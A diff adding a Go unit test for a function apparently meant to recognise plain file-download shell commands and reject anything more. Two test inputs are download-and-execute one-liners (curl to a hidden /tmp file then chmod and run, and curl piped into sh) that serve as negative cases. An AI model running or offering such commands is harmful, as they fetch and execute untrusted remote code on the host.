@@ -24,3 +24,20 @@ func TestDownloadTarget(t *testing.T) {
 		}
 	}
 }
+
+func TestShellDownload(t *testing.T) {
+	for _, c := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{"/bin/sh", "-c", "wget -q -O /var/www/html/data/rates.json http://127.0.0.1:8000/rates.json"}, "/var/www/html/data/rates.json"},
+		{[]string{"sh", "-c", "curl -so /tmp/.x http://h/x; chmod +x /tmp/.x; /tmp/.x"}, ""}, // more than a download
+		{[]string{"sh", "-c", "curl -s http://h/x | sh"}, ""},
+		{[]string{"sh", "-c", "id"}, ""},
+		{[]string{"bash"}, ""},
+	} {
+		if got := shellDownload(c.args, "/"); got != c.want {
+			t.Errorf("shellDownload(%q) = %q, want %q", c.args, got, c.want)
+		}
+	}
+}
